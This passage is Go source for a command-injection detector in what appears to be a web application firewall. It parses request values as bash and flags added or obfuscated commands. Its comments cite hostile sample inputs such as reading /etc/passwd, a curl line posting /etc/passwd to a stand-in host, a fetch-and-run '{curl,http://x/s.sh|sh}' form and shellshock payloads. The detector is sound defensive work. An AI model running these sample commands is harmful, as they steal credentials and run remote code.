// Package shell detects OS command injection: a value that, placed as an
// argument in a shell command line (unquoted, inside "…" or inside '…'),
// breaks out into a new command — by a separator (; | || && & newline),
// a substitution ($(…), `…`, <(…)) — or that is itself an obfuscated or
// targeted command line (c'a't /et'c/pa'ss'wd, /???/c?t, {cat,/etc/passwd},
// cat${IFS}/etc/passwd).
//
// Place in the request path: one of the waf stage's detectors, run on each
// decoded variant (waf/decode) of each request value.
//
// Design: mvdan.cc/sh/v3's syntax.Parser (a complete POSIX/bash parser
// with a typed AST and precise positions) parses the value in each
// placement. The command word of every command the value adds is resolved
// the way the shell would (quotes and escapes removed, $'\x63'
// decoded, ${IFS} split, variables assigned earlier substituted, globs
// matched against the usual binary directories, brace lists expanded) and
// compared with a bounded list of real commands: it is the command
// position in a parsed AST, never a keyword search in prose. The
// arguments then say whether the command is a command or a sentence:
// "Hello; cat videos are great" adds a command whose arguments are
// English words, "; cat /etc/passwd" one whose argument is a sensitive
// path. A value that is one simple command of ordinary words ("zsh is the
// best!", "ls 300 lexus", "make me a sandwich") is not an injection.
package shell

import (
	"path"
	"sort"
	"strings"
	"sync"

	"github.com/portcullis-waf/portcullis/waf/detect"
	"mvdan.cc/sh/v3/syntax"
)

// Detector is the command injection detector. The zero value is ready to
// use.
type Detector struct{}

var _ detect.Detector = Detector{}

// New returns the detector.
func New() Detector { return Detector{} }

// Class implements detect.Detector.
func (Detector) Class() detect.Class { return detect.Shell }

// MaxLen bounds the bytes examined: command lines are short.
const MaxLen = 4096

// minScore is the lowest confidence reported.
const minScore = 40

var parsers = sync.Pool{New: func() any {
	return syntax.NewParser(syntax.Variant(syntax.LangBash), syntax.KeepComments(false))
}}

// breakoutBytes can end an argument and start a command.
var breakoutBytes = func() (t [256]bool) {
	for _, c := range []byte(";|&`$()<>\n\r") {
		t[c] = true
	}
	return t
}()

// Prefilter reports whether v could be command injection: it needs a byte
// that ends an argument and starts a command, or a first word that is a
// command (possibly obfuscated). It does not allocate.
func Prefilter(v string) bool {
	return breakoutCandidate(v) || (firstWordIsCommand(v) && commandLineWorth(v)) || hasForLoop(v) || hasIf(v) ||
		strings.HasPrefix(strings.TrimLeft(v, " \t"), "()")
}

// breakoutCandidate: some byte that ends an argument is followed (after
// blanks and more such bytes) by a word that may be a command: a known
// name once quotes and backslashes are removed, or a word the shell
// expands ($, glob, brace). Parsing is only worth it then.
func breakoutCandidate(v string) bool {
	for i := 0; i < len(v); i++ {
		if !breakoutBytes[v[i]] {
			continue
		}
		j := i + 1
		for j < len(v) && (v[j] == ' ' || v[j] == '\t' || (breakoutBytes[v[j]] && v[j] != '$')) {
			j++
		}
		if v[i] == '$' {
			j = i // $(…), ${…}, $'…', $IFS: the expansion itself
		}
		var buf [32]byte
		n := 0
		for ; j < len(v) && v[j] != ' ' && v[j] != '\t' && (!breakoutBytes[v[j]] || v[j] == '$'); j++ {
			switch c := v[j]; c {
			case '\'', '"', '\\':
				continue
			case '$', '?', '*', '[', '{':
				// expansions and globs: the word is built by the shell
				return true
			}
			if n < len(buf) {
				buf[n] = v[j]
			}
			n++
		}
		if n > 0 && n <= len(buf) {
			w := string(buf[:n]) // does not escape: lookup only
			if i := lastSep(w); i >= 0 {
				w = w[i+1:] // /bin/sh, C:\Windows\System32\cmd.exe
			}
			if lookupCmd(w) != cmdUnknown {
				return true
			}
		}
	}
	return false
}

// maxNesting bounds bracket nesting in a value given to the parser.
const maxNesting = 32

// nesting is the deepest bracket nesting in v (unbalanced closers
// ignored).
func nesting(v string) int {
	d, max := 0, 0
	for i := 0; i < len(v); i++ {
		switch v[i] {
		case '(', '{', '[':
			d++
			if d > max {
				max = d
			}
		case ')', '}', ']':
			if d > 0 {
				d--
			}
		}
	}
	return max
}

// commandLineWorth: a value that is one command line is judged only when
// it could be obfuscated or aimed at something: quotes, escapes,
// expansions, globs, braces or a path.
func commandLineWorth(v string) bool {
	if strings.ContainsAny(v, "'\"\\$*?[{/&;|`") || strings.Contains(v, "()") {
		return true
	}
	// nohup ifconfig, time sh -c whoami: a wrapper or interpreter first
	// (scanned by hand: this runs on every value)
	w0, rest := nextWord(v)
	w1, _ := nextWord(rest)
	if w0 == "" || w1 == "" || len(w0) > 32 {
		return false
	}
	return (wrappers[w0] || lookupCmd(w0) == cmdInterp) &&
		(strings.HasPrefix(w1, "-") || (len(w1) <= 32 && lookupCmd(w1) != cmdUnknown))
}

// nextWord returns the first blank-separated word of s and the rest.
func nextWord(s string) (string, string) {
	i := 0
	for i < len(s) && (s[i] == ' ' || s[i] == '\t' || s[i] == '\n') {
		i++
	}
	j := i
	for j < len(s) && s[j] != ' ' && s[j] != '\t' && s[j] != '\n' {
		j++
	}
	return s[i:j], s[j:]
}

// firstWordIsCommand: the first word, with quotes and backslashes
// removed, names a command, or is a glob or brace list that may.
func firstWordIsCommand(v string) bool {
	i := 0
	for i < len(v) && (v[i] == ' ' || v[i] == '\t') {
		i++
	}
	var buf [32]byte
	n := 0
	special, quoted := false, false
	for ; i < len(v) && v[i] != ' ' && v[i] != '\t'; i++ {
		c := v[i]
		if e := emptySubst(v[i:]); e > 0 {
			// ping``, pi<()ng, who$()ami: an empty substitution splits
			// the word as quotes do
			quoted = true
			i += e - 1
			continue
		}
		switch c {
		case '\'', '"', '\\':
			quoted = true
			continue
		case '?', '*', '[', '{', '$':
			special = true
		}
		if n == len(buf) {
			return special
		}
		buf[n] = c
		n++
	}
	if special {
		return true
	}
	// A bare command word is not worth a parse unless it was quoted
	// apart (w'h'o'a'm'i).
	return n > 0 && (i < len(v) || quoted) && lookupCmd(string(buf[:n])) != cmdUnknown
}

type placement struct {
	open, close string
	name        string
}

var placements = [...]placement{
	{"x ", "", "unquoted argument"},
	{`x "`, `"`, "double-quoted argument"},
	{"x '", "'", "single-quoted argument"},
	{"", "", "command line"},
}

// Detect implements detect.Detector.
func (d Detector) Detect(in detect.Input) (detect.Finding, bool) {
	return detect.HeadTail(in.Value, MaxLen, func(v string) (detect.Finding, bool) {
		w := in
		w.Value = v
		f, ok, _ := d.run(w)
		return f, ok
	})
}

// run is Detect that also reports the analyzer's work (AST nodes and
// word parts visited; the parser's own work is mvdan.cc/sh's).
func (d Detector) run(in detect.Input) (detect.Finding, bool, int) {
	steps := 0
	v := in.Value
	if len(v) > MaxLen {
		v = v[:MaxLen]
	}
	if !Prefilter(v) {
		return detect.Finding{}, false, 0
	}
	if strings.Contains(v, "```") {
		// A markdown code fence is not a command substitution: blank it
		// (same length, so spans keep their offsets).
		v = blankFences(v)
	}
	if t := strings.TrimLeft(v, " \t"); strings.HasPrefix(t, "() {") || strings.HasPrefix(t, "(){") {
		// CVE-2014-6271: a function definition in a variable, run by
		// bash on import.
		return detect.Finding{Class: detect.Shell, Detector: "shell", Confidence: 90,
			Reason: "bash function definition in a value (shellshock)", Start: len(v) - len(t), End: len(v)}, true, 0
	}
	if nesting(v) > maxNesting {
		// The parser's recursion, and so its time, grows with nesting;
		// nothing real nests this deep.
		return detect.Finding{Class: detect.Shell, Detector: "shell", Confidence: 50,
			Reason: "shell syntax nested too deep to judge", Start: 0, End: len(v)}, true, 0
	}
	var best detect.Finding
	for _, p := range placements {
		switch p.close {
		case `"`:
			if strings.IndexByte(v, '"') < 0 && strings.IndexByte(v, '$') < 0 && strings.IndexByte(v, '`') < 0 {
				continue // same as unquoted for breakouts
			}
		case "'":
			if strings.IndexByte(v, '\'') < 0 {
				continue // cannot leave the quotes
			}
		}
		if p.open == "" && !(firstWordIsCommand(v) && commandLineWorth(v)) {
			continue
		}
		if p.open != "" && !breakoutCandidate(v) {
			continue
		}
		f, ok, n := judge(v, p)
		steps += n
		if ok && f.Confidence > best.Confidence {
			best = f
		}
		if best.Confidence >= 95 {
			break
		}
	}
	if best.Confidence < 70 {
		if f, ok := wholeArithm(v); ok && f.Confidence > best.Confidence {
			best = f
		}
	}
	if best.Confidence < 60 {
		if f, ok := windowsScan(v); ok && f.Confidence > best.Confidence {
			best = f
		}
		if f, ok := cmdForLoop(v); ok && f.Confidence > best.Confidence {
			best = f
		}
		if f, ok := cmdIf(v); ok && f.Confidence > best.Confidence {
			best = f
		}
	}
	if best.Confidence < minScore {
		return detect.Finding{}, false, steps
	}
	best.Class = detect.Shell
	best.Detector = "shell"
	return best, true, steps
}

func judge(v string, p placement) (f detect.Finding, ok bool, steps int) {
	var a analyzer
	defer func() {
		steps = a.steps
		if recover() != nil {
			f, ok = detect.Finding{}, false
		}
	}()
	src := p.open + v + p.close
	if p.close == "" {
		// "|| id ||": the value ends with an operator the rest of the
		// application's command line completes.
		t := strings.TrimRight(src, " \t")
		if strings.HasSuffix(t, "||") || strings.HasSuffix(t, "&&") || strings.HasSuffix(t, "|") {
			src = t + " :"
		}
	}
	file, err := parse(src)
	if err != nil && p.close == "" {
		// A value that ends inside a quote is closed by the quote the
		// surrounding command line supplies (grep 'VALUE' …).
		msg := err.Error()
		switch {
		case strings.Contains(msg, "without closing quote `'`"):
			src += "'"
		case strings.Contains(msg, "without closing quote `\"`"):
			src += `"`
		default:
			return detect.Finding{}, false, 0
		}
		file, err = parse(src)
	}
	if err != nil {
		return detect.Finding{}, false, 0
	}
	a = analyzer{src: src, shift: len(p.open), vlen: len(v), wrapped: p.open != "", value: v}
	a.stmts(file.Stmts, viaTop, cmdUnknown, 0)
	if a.best.Confidence == 0 {
		return detect.Finding{}, false, a.steps
	}
	a.best.Reason = p.name + ": " + a.best.Reason
	return a.best, true, a.steps
}

func parse(src string) (*syntax.File, error) {
	ps := parsers.Get().(*syntax.Parser)
	defer parsers.Put(ps)
	return ps.Parse(strings.NewReader(src), "")
}

type via uint8

const (
	viaTop       via = iota // the first command of the line
	viaSeparator            // after ; & && || or a newline
	viaPipe                 // on the right of a pipe
	viaSubst                // inside $(…) or <(…)
	viaBackquote            // inside `…`
	viaCompound             // inside if/while/for/case/function bodies
)

func (w via) String() string {
	switch w {
	case viaSeparator:
		return "command after a separator"
	case viaPipe:
		return "command after a pipe"
	case viaSubst:
		return "command substitution"
	case viaBackquote:
		return "backquote substitution"
	case viaCompound:
		return "compound command"
	}
	return "command"
}

const maxDepth = 24

type analyzer struct {
	src     string
	value   string
	shift   int // bytes of wrapper before the value
	vlen    int
	wrapped bool
	seenTop bool
	vars    [8]struct{ name, value string }
	nvars   int
	best    detect.Finding
	steps   int
	globs   int
	// sensitiveHit is set while judging a command whose arguments name a
	// sensitive path.
	sensitiveHit bool
	// intoWord are commands whose output is piped into a plain word
	// that names no command.
	intoWord  [24]*syntax.CallExpr
	nIntoWord int
}

// pipeCalls writes the simple commands of a pipeline, in order, into out
// from index n (nil for a stage that is not a simple command) and
// returns the new count; nesting and count are bounded.
func pipeCalls(s *syntax.Stmt, out []*syntax.CallExpr, n, depth int) int {
	if s == nil || n >= len(out) || depth > maxDepth {
		return n
	}
	if bc, ok := s.Cmd.(*syntax.BinaryCmd); ok && (bc.Op == syntax.Pipe || bc.Op == syntax.PipeAll) {
		n = pipeCalls(bc.X, out, n, depth+1)
		return pipeCalls(bc.Y, out, n, depth+1)
	}
	ce, _ := s.Cmd.(*syntax.CallExpr)
	out[n] = ce
	return n + 1
}

// plainUnknown: the word is letters only (no quotes, expansions, globs
// or path) and names no command.
func (a *analyzer) plainUnknown(wd *syntax.Word) bool {
	if len(wd.Parts) != 1 {
		return false
	}
	lit, ok := wd.Parts[0].(*syntax.Lit)
	if !ok || lit.Value == "" || len(lit.Value) > 32 {
		return false
	}
	for i := 0; i < len(lit.Value); i++ {
		if c := lit.Value[i]; !('a' <= c && c <= 'z') && !('A' <= c && c <= 'Z') && !('0' <= c && c <= '9') {
			return false
		}
	}
	return lookupCmd(lit.Value) == cmdUnknown
}

// markIntoWord marks the commands of pipeline s that are words of a
// list of alternatives in a document rather than a pipeline anyone runs:
// a command whose output is piped into a word that names no command
// ("bt|db|dir|pag"), and in a chain of three or more whose words are
// mostly no commands ("lzo|lz4|lz4hc|deflate|842|zstd") each command,
// the last only when it does nothing without arguments but read the
// others' output: "a|b|c|reboot" reboots. Only a pipeline that is the first command
// of the line is considered: after a breakout (; && || & a newline, a
// substitution) a command runs whatever its output is piped into
// ("; reboot | x").
func (a *analyzer) markIntoWord(s *syntax.Stmt) {
	var chain [16]*syntax.CallExpr
	n := pipeCalls(s, chain[:], 0, 0)
	words, calls := 0, true
	for _, ce := range chain[:n] {
		if ce == nil || len(ce.Args) == 0 {
			calls = false
			continue
		}
		if a.plainUnknown(ce.Args[len(ce.Args)-1]) && len(ce.Args) <= 2 {
			words++
		}
	}
	list := calls && n >= 3 && 2*words >= n
	for i := 0; i < n; i++ {
		x := chain[i]
		if x == nil || len(x.Args) == 0 {
			continue
		}
		var into bool
		if i+1 < n {
			y := chain[i+1]
			into = list || (y != nil && len(y.Args) > 0 && a.plainUnknown(y.Args[0]))
		} else {
			// the last of a list is a word of it when, run with no
			// arguments, it would only read the others' output
			into = list && !actsBare[strings.ToLower(x.Args[0].Lit())]
		}
		if into && !a.pipedIntoWord(x) && a.nIntoWord < len(a.intoWord) {
			a.intoWord[a.nIntoWord] = x
			a.nIntoWord++
		}
	}
}

func (a *analyzer) pipedIntoWord(c *syntax.CallExpr) bool {
	for _, x := range a.intoWord[:a.nIntoWord] {
		if x == c {
			return true
		}
	}
	return false
}

func (a *analyzer) consider(conf int, reason string, node syntax.Node) {
	a.considerSevere(conf, reason, node, false)
}

// considerSevere records a finding. A command that follows several words
// of prose is a code sample in a document (a forum post, an issue), not
// a breakout from an argument, unless what it does is unmistakable
// (a reverse shell, a download run by a shell): severe.
func (a *analyzer) considerSevere(conf int, reason string, node syntax.Node, severe bool) {
	start, end := int(node.Pos().Offset())-a.shift, int(node.End().Offset())-a.shift
	if !severe && start > 0 && start <= len(a.value) && proseWords(a.value[:start]) >= 5 {
		if a.sensitiveHit {
			conf -= 25 // a sensitive target stays above the threshold
		} else {
			conf -= 40
		}
		reason += " (in prose)"
	}
	if conf <= a.best.Confidence {
		return
	}
	if start < 0 {
		start = 0
	}
	if end > a.vlen {
		end = a.vlen
	}
	if start > end {
		start = end
	}
	a.best = detect.Finding{Confidence: conf, Reason: reason, Start: start, End: end}
}

func (a *analyzer) stmts(list []*syntax.Stmt, w via, left cmdKind, depth int) {
	for i, s := range list {
		ww := w
		if i > 0 && (w == viaTop || w == viaPipe) {
			ww = viaSeparator
		}
		a.stmt(s, ww, left, depth)
	}
}

func (a *analyzer) stmt(s *syntax.Stmt, w via, left cmdKind, depth int) cmdKind {
	a.steps++
	if s == nil || depth > maxDepth || a.steps > 4*MaxLen {
		return cmdUnknown
	}
	for _, r := range s.Redirs {
		if r.Word != nil {
			a.word(r.Word, depth)
			if t := a.resolve(r.Word); isSensitive(t.text) {
				a.consider(80, "redirection from or to a sensitive path", r.Word)
			}
		}
	}
	switch c := s.Cmd.(type) {
	case *syntax.CallExpr:
		return a.call(c, s, w, left, depth)
	case *syntax.BinaryCmd:
		if (c.Op == syntax.Pipe || c.Op == syntax.PipeAll) && w == viaTop {
			a.markIntoWord(s)
		}
		k := a.stmt(c.X, w, left, depth+1)
		yw := viaSeparator
		if c.Op == syntax.Pipe || c.Op == syntax.PipeAll {
			yw = viaPipe
		}
		if w == viaSubst || w == viaBackquote || w == viaCompound {
			yw = w
		}
		a.stmt(c.Y, yw, k, depth+1)
	case *syntax.Subshell:
		a.stmts(c.Stmts, nested(w), cmdUnknown, depth+1)
	case *syntax.Block:
		a.stmts(c.Stmts, nested(w), cmdUnknown, depth+1)
	case *syntax.TimeClause:
		a.stmt(c.Stmt, w, left, depth+1)
	case nil:
	default:
		syntax.Walk(c, func(n syntax.Node) bool {
			a.steps++
			if a.steps > 4*MaxLen {
				return false
			}
			if ce, ok := n.(*syntax.CallExpr); ok {
				a.call(ce, nil, viaCompound, cmdUnknown, depth+1)
				return false
			}
			if cs, ok := n.(*syntax.CmdSubst); ok {
				a.stmts(cs.Stmts, viaSubst, cmdUnknown, depth+1)
				return false
			}
			return true
		})
	}
	return cmdUnknown
}

func nested(w via) via {
	if w == viaTop {
		return viaTop
	}
	return w
}

// word walks a word's parts for substitutions.
func (a *analyzer) word(wd *syntax.Word, depth int) {
	if wd == nil || depth > maxDepth {
		return
	}
	for _, part := range wd.Parts {
		a.part(part, depth)
	}
}

func (a *analyzer) part(part syntax.WordPart, depth int) {
	a.steps++
	switch p := part.(type) {
	case *syntax.CmdSubst:
		w := viaSubst
		if p.Backquotes {
			w = viaBackquote
		}
		a.stmts(p.Stmts, w, cmdUnknown, depth+1)
	case *syntax.ProcSubst:
		a.stmts(p.Stmts, viaSubst, cmdUnknown, depth+1)
	case *syntax.DblQuoted:
		for _, q := range p.Parts {
			a.part(q, depth+1)
		}
	case *syntax.ParamExp:
		if p.Exp != nil {
			a.word(p.Exp.Word, depth+1)
		}
	case *syntax.ArithmExp:
		// $((…)) and bash's $[…]: arithmetic runs the substitutions in
		// its operands ($(( $(id) )), $[a[$(id)]]).
		syntax.Walk(p, func(n syntax.Node) bool {
			a.steps++
			if a.steps > 4*MaxLen {
				return false
			}
			if cs, ok := n.(*syntax.CmdSubst); ok {
				w := viaSubst
				if cs.Backquotes {
					w = viaBackquote
				}
				a.stmts(cs.Stmts, w, cmdUnknown, depth+1)
				return false
			}
			if ps, ok := n.(*syntax.ProcSubst); ok {
				a.stmts(ps.Stmts, viaSubst, cmdUnknown, depth+1)
				return false
			}
			return true
		})
	}
}

func (a *analyzer) call(c *syntax.CallExpr, s *syntax.Stmt, w via, left cmdKind, depth int) cmdKind {
	for _, as := range c.Assigns {
		if as.Name != nil && as.Value != nil {
			a.word(as.Value, depth)
			if a.nvars < len(a.vars) {
				t := a.resolve(as.Value)
				a.vars[a.nvars] = struct{ name, value string }{as.Name.Value, t.text}
				a.nvars++
			}
		}
	}
	for _, arg := range c.Args {
		a.word(arg, depth)
	}
	if len(c.Args) == 0 {
		return cmdUnknown
	}
	if len(c.Args) > 1 && a.resolve(c.Args[0]).text == "alias" {
		// alias eennvv=env: the new name runs the command
		for _, arg := range c.Args[1:] {
			t := a.resolve(arg).text
			if k, v, ok := strings.Cut(t, "="); ok && a.nvars < len(a.vars) {
				a.vars[a.nvars] = struct{ name, value string }{"alias:" + k, v}
				a.nvars++
			}
		}
	}
	if w == viaTop && !a.seenTop {
		a.seenTop = true
		if a.wrapped {
			return cmdUnknown // the application's own command
		}
		a.judgeCommandLine(c)
		return cmdUnknown
	}
	return a.judgeInjected(c, w, left)
}

// resolvedWord is a word as the shell would see it.
type resolvedWord struct {
	text       string
	split      bool // ${IFS} or similar produced a field separator
	quoteSplit bool // a quote or escape between two word characters (c'a't)
	glob       bool // unquoted *, ? or [
	dynamic    bool // an expansion we cannot resolve
	expanded   bool // variables or ANSI-C escapes were needed to read it
}

func (a *analyzer) resolve(wd *syntax.Word) resolvedWord {
	a.steps += len(wd.Parts)
	var r resolvedWord
	var b strings.Builder
	type span struct {
		start, end int
		quoted     bool
	}
	var spans [16]span
	n := 0
	for _, part := range wd.Parts {
		before := b.Len()
		a.resolvePart(part, &b, &r, 0)
		if n < len(spans) {
			_, sq := part.(*syntax.SglQuoted)
			_, dq := part.(*syntax.DblQuoted)
			spans[n] = span{before, b.Len(), sq || dq}
			n++
		}
		if b.Len() > 512 {
			break
		}
	}
	r.text = b.String()
	// c'a't splits a word with quotes; l'état d'un fichier quotes a
	// phrase: a quoted part counts when it has no blank and touches a
	// word character of a neighbour.
	for i := 0; i < n; i++ {
		sp := spans[i]
		if !sp.quoted || strings.ContainsAny(r.text[sp.start:sp.end], " \t\n") {
			continue
		}
		left := sp.start > 0 && isWordChar(r.text[sp.start-1]) && (sp.end == sp.start || isWordChar(r.text[sp.start]))
		right := sp.end < len(r.text) && isWordChar(r.text[sp.end]) && (sp.end == sp.start || isWordChar(r.text[sp.end-1])) &&
			strings.Trim(r.text[sp.end:], ".,;:!?") != "" // 'TLSv1.2'. ends a sentence
		if left || right {
			r.quoteSplit = true
		}
	}
	return r
}

func isAlnum(c byte) bool {
	return ('a' <= c && c <= 'z') || ('A' <= c && c <= 'Z') || ('0' <= c && c <= '9')
}

func isWordChar(c byte) bool {
	return ('a' <= c && c <= 'z') || ('A' <= c && c <= 'Z') || ('0' <= c && c <= '9') || c == '/' || c == '.' || c == '_' || c == '-'
}

func (a *analyzer) resolvePart(part syntax.WordPart, b *strings.Builder, r *resolvedWord, depth int) {
	if depth > 8 {
		r.dynamic = true
		return
	}
	switch p := part.(type) {
	case *syntax.Lit:
		v := p.Value
		for i := 0; i < len(v); i++ {
			c := v[i]
			if c == '\\' && i+1 < len(v) {
				i++
				if v[i] == '\n' {
					continue
				}
				if i > 1 && isAlnum(v[i]) && isAlnum(v[i-2]) {
					r.quoteSplit = true // c\at
				}
				b.WriteByte(v[i])
				continue
			}
			if c == '*' || c == '?' || c == '[' {
				r.glob = true
			}
			b.WriteByte(c)
		}
	case *syntax.SglQuoted:
		if p.Dollar {
			r.expanded = true
			b.WriteString(ansiC(p.Value))
		} else {
			b.WriteString(p.Value)
		}
	case *syntax.DblQuoted:
		for _, q := range p.Parts {
			a.resolvePart(q, b, r, depth+1)
		}
	case *syntax.ParamExp:
		name := ""
		if p.Param != nil {
			name = p.Param.Value
		}
		switch {
		case name == "IFS":
			// $IFS, ${IFS}, ${IFS%??}: whitespace either way
			r.split = true
			b.WriteByte(' ')
		case name == "@" || name == "*" || name == "_" || (len(name) == 1 && '0' <= name[0] && name[0] <= '9' && name != "0"):
			r.expanded = true // c$@at, cat$IFS$9/etc/passwd, c$_at: empty
		case shellVars[name] != "" && p.Exp == nil && p.Slice == nil:
			r.expanded = true
			b.WriteString(shellVars[name]) // $SHELL -c …
		case p.Exp != nil && p.Exp.Word != nil && (p.Exp.Op == syntax.DefaultUnset || p.Exp.Op == syntax.DefaultUnsetOrNull):
			r.expanded = true
			for _, q := range p.Exp.Word.Parts {
				a.resolvePart(q, b, r, depth+1)
			}
		case p.Slice != nil && (name == "PATH" || name == "HOME" || name == "PWD"):
			r.expanded = true
			b.WriteByte('/') // ${PATH:0:1}
		default:
			if v, ok := a.lookupVar(name); ok && p.Exp == nil && p.Slice == nil && p.Repl == nil {
				r.expanded = true
				b.WriteString(v)
			} else {
				r.dynamic = true
			}
		}
	case *syntax.CmdSubst:
		if len(p.Stmts) == 0 {
			r.expanded = true // ping$() 127.0.0.1: an empty substitution
			return
		}
		r.dynamic = true
	case *syntax.ProcSubst:
		if len(p.Stmts) == 0 {
			r.expanded = true // pi<()ng: an empty substitution
			return
		}
		r.dynamic = true
	case *syntax.ArithmExp:
		r.dynamic = true
	case *syntax.ExtGlob:
		r.glob = true
		b.WriteString(p.Pattern.Value)
	default:
		r.dynamic = true
	}
}

func (a *analyzer) lookupVar(name string) (string, bool) {
	for i := a.nvars - 1; i >= 0; i-- {
		if a.vars[i].name == name {
			return a.vars[i].value, true
		}
	}
	return "", false
}

// ansiC decodes the escapes of $'…' (the usual \xHH, \NNN, \n forms).
func ansiC(s string) string {
	if strings.IndexByte(s, '\\') < 0 {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c != '\\' || i+1 >= len(s) {
			b.WriteByte(c)
			continue
		}
		i++
		switch e := s[i]; {
		case e == 'x' && i+1 < len(s):
			v, n := 0, 0
			for n < 2 && i+1 < len(s) && isHexDigit(s[i+1]) {
				v = v*16 + hexVal(s[i+1])
				i++
				n++
			}
			b.WriteByte(byte(v))
		case '0' <= e && e <= '7':
			v, n := int(e-'0'), 1
			for n < 3 && i+1 < len(s) && '0' <= s[i+1] && s[i+1] <= '7' {
				v = v*8 + int(s[i+1]-'0')
				i++
				n++
			}
			b.WriteByte(byte(v))
		case e == 'n':
			b.WriteByte('\n')
		case e == 't':
			b.WriteByte('\t')
		default:
			b.WriteByte(e)
		}
	}
	return b.String()
}

func isHexDigit(c byte) bool {
	return ('0' <= c && c <= '9') || ('a' <= c|0x20 && c|0x20 <= 'f')
}

func hexVal(c byte) int {
	if c <= '9' {
		return int(c - '0')
	}
	return int(c|0x20-'a') + 10
}

// commandName resolves a call's command word and its extra fields (from
// ${IFS} splitting or a brace list).
func (a *analyzer) commandName(c *syntax.CallExpr) (name string, kind cmdKind, rw resolvedWord, extra []string) {
	rw = a.resolve(c.Args[0])
	t := strings.TrimLeft(rw.text, " ")
	if strings.HasPrefix(t, "{") && strings.IndexByte(t, ',') > 0 {
		// {cat,/etc/passwd}: brace expansion into words (the closing
		// brace may be cut off by a pipe: {curl,http://x/s.sh|sh})
		fields := strings.Split(strings.TrimSuffix(t[1:], "}"), ",")
		for len(fields) > 1 && fields[0] == "" {
			fields = fields[1:] // {,ifconfig}
		}
		t, extra = fields[0], fields[1:]
		rw.expanded = true
	}
	if !rw.split && strings.ContainsAny(strings.TrimSpace(t), " \t") && (rw.quoteSplit || len(c.Args[0].Parts) > 1) {
		// A command word that quotes a whole command line
		// (cu""r'l -d @/etc/passwd x'): what eval or sh -c would run.
		rw.split = true
	}
	if rw.split {
		fields := strings.Fields(t)
		if len(fields) > 0 {
			t, extra = fields[0], append(fields[1:], extra...)
		}
	}
	name = t
	kind = lookupCmd(name)
	if kind == cmdUnknown {
		if v, ok := a.lookupVar("alias:" + name); ok {
			name, kind = v, lookupCmd(strings.Fields(v + " x")[0])
			rw.expanded = true
		}
	}
	if kind == cmdUnknown && rw.glob && strings.IndexByte(name, '/') >= 0 && a.globs < maxGlobs {
		a.globs++
		if m, k := globCommand(name); k != cmdUnknown {
			name, kind = m, k
		}
	}
	return name, kind, rw, extra
}

// maxGlobs bounds glob resolutions per value, and maxGlobLen the pattern
// length: matching costs patterns × candidates.
const (
	maxGlobs   = 4
	maxGlobLen = 48
)

// globCommand matches a globbed path (/???/c?t) against the usual binary
// directories.
func globCommand(pattern string) (string, cmdKind) {
	if len(pattern) > maxGlobLen || strings.Count(pattern, "*") > 4 || !strings.HasPrefix(pattern, "/") {
		return "", cmdUnknown
	}
	pattern = bashGlob(pattern)
	dir, base := pattern[:strings.LastIndexByte(pattern, '/')+1], pattern[strings.LastIndexByte(pattern, '/')+1:]
	fixed := -1 // the base name's length when it has no '*'
	if strings.IndexByte(base, '*') < 0 {
		fixed = globLen(base)
	}
	for _, d := range binDirs {
		if ok, _ := path.Match(dir, d); !ok && dir != d {
			continue
		}
		for _, cmd := range commandNames {
			if fixed >= 0 && len(cmd) != fixed {
				continue
			}
			if ok, _ := path.Match(base, cmd); ok {
				return cmd, commands[cmd]
			}
		}
	}
	return "", cmdUnknown
}

// globLen is the length of the names a '*'-free pattern matches.
func globLen(p string) int {
	n := 0
	for i := 0; i < len(p); i++ {
		if p[i] == '[' {
			if j := strings.IndexByte(p[i:], ']'); j > 0 {
				i += j
			}
		}
		n++
	}
	return n
}

// commandNames is the command list in a fixed order, so that a glob
// resolves the same way every time (map order is random).
var commandNames = func() []string {
	names := make([]string, 0, len(commands))
	for n := range commands {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}()

// argShape summarises a command's arguments.
type argShape struct {
	n         int
	prose     int // plain lower-case words
	shellish  int // flags, paths, numbers, URLs, expansions
	sensitive bool
	// secret: a sensitive path that is a target in itself (/etc/shadow,
	// .ssh/, /dev/tcp/), not only a place (/tmp/, /var/log/).
	secret bool
	url    bool
	obfusc bool // quote-split, ${IFS}, globbed paths, ANSI-C
	// obfuscNoGlob: the same without globbed paths, which are also how
	// documentation writes a set of files (/usr/{ucb/{ex,edit},lib/ex?.?*})
	obfuscNoGlob bool
}

// unwrap follows wrapper commands (sudo, env, busybox, .shell …) to the
// command they run: its index in c.Args, name and kind.
func (a *analyzer) unwrap(c *syntax.CallExpr, name string, kind cmdKind) (int, string, cmdKind) {
	idx := 0
	for hops := 0; hops < 3 && wrappers[name]; hops++ {
		j := idx + 1
		for j < len(c.Args) {
			t := a.resolve(c.Args[j]).text
			if strings.HasPrefix(t, "-") || strings.Contains(t, "=") || (name == "timeout" && isNumber(t)) {
				j++
				continue
			}
			break
		}
		if (name == "flock" || name == "chroot") && j+1 < len(c.Args) {
			// flock FILE COMMAND, chroot NEWROOT COMMAND: the first
			// operand is a lock file or a directory, not the command
			// ("flock /etc/passwd read-and-write-to-passwd").
			j++
		}
		if j >= len(c.Args) {
			break
		}
		n := a.resolve(c.Args[j]).text
		k := lookupCmd(n)
		if k == cmdUnknown {
			break
		}
		idx, name, kind = j, n, k
	}
	return idx, name, kind
}

func isNumber(t string) bool {
	for i := 0; i < len(t); i++ {
		if !('0' <= t[i] && t[i] <= '9') && t[i] != '.' && t[i] != 's' && t[i] != 'm' {
			return false
		}
	}
	return len(t) > 0
}

func (a *analyzer) args(c *syntax.CallExpr, extra []string) argShape {
	return a.argsFrom(c, 1, extra)
}

func (a *analyzer) argsFrom(c *syntax.CallExpr, from int, extra []string) argShape {
	var s argShape
	add := func(t string, rw resolvedWord) {
		s.n++
		switch {
		case isSensitive(t):
			s.sensitive = true
			s.secret = s.secret || !placeOnly(t)
			s.shellish++
		case strings.Contains(t, "://") || isIPv4ish(t):
			s.url = true
			s.shellish++
		case synopsisBracket(t):
			// "kill [-s sigspec | -n signum]": a usage synopsis whose
			// brackets the shell would read as a glob, and its
			// alternatives as a pipeline.
			s.prose++
		case rw.dynamic || rw.glob || rw.split:
			s.shellish++
		case isProseWord(t) || placeholder(t):
			s.prose++
		default:
			s.shellish++
		}
		// An apostrophe in a word of a sentence (d'OpenSSL) is not
		// obfuscation; quotes inside a path or flag are.
		if (rw.quoteSplit && !isProseWord(t)) || rw.split || rw.expanded {
			s.obfusc, s.obfuscNoGlob = true, true
		} else if rw.glob && globObfuscated(t) {
			s.obfusc = true
			if !braceList(t) {
				s.obfuscNoGlob = true
			}
		}
	}
	for _, e := range extra {
		add(e, resolvedWord{})
